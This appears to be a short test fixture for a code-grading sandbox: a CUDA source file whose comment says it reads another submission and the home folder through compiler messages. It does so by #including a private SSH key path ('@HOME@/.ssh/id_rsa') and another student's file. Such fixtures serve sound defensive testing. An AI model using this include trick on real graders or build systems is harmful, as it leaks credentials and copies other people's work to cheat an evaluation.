/* Reads another submission and the home folder through the compiler's messages. */
#include "@HOME@/.ssh/id_rsa"
#include "@OTHER@/exercise1_tiled.cu"
#include "honest_ends.cuh"
